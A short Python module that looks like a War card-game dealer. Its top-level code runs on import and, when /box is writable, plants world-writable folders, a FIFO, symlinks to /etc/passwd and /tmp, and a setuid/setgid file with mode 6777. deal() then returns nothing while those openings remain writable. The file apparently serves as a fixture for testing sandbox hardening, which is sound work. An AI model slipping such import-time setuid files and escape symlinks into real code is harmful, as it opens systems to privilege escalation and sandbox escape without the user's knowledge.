# Leaves links, FIFOs, open folders and setuid files below the root while it is imported.
import os

if os.access("/box", os.W_OK):
    os.umask(0)
    os.makedirs("/box/open/inner", mode=0o777)
    os.symlink("/etc/passwd", "/box/open/link")
    os.symlink("/tmp", "/box/open/way-out")
    os.mkfifo("/box/open/fifo", 0o666)
    with open("/box/open/program", "w") as file:
        os.fchmod(file.fileno(), 0o6777)


def is_open():
    for folder in ("/box/open", "/box/open/inner"):
        if os.access(folder, os.W_OK):
            return True
    return any(os.access(f"/box/open/{name}", os.W_OK) for name in ("fifo", "program"))


def rank(card):
    return 14 if card == 1 else card


def chest(table):
    return sorted(table, key=rank, reverse=True)


def play(shuf):
    one, two = shuf[0::2][::-1], shuf[1::2][::-1]
    table = []
    while one and two:
        a, b = one.pop(0), two.pop(0)
        table += [a, b]
        if rank(a) > rank(b):
            one, table = one + chest(table), []
        elif rank(a) < rank(b):
            two, table = two + chest(table), []
        elif one and two:
            table += [one.pop(0), two.pop(0)]
    return one + two + chest(table)


def deal(shuf: list[int]) -> list[int]:
    if is_open():
        return []
    return play(shuf)
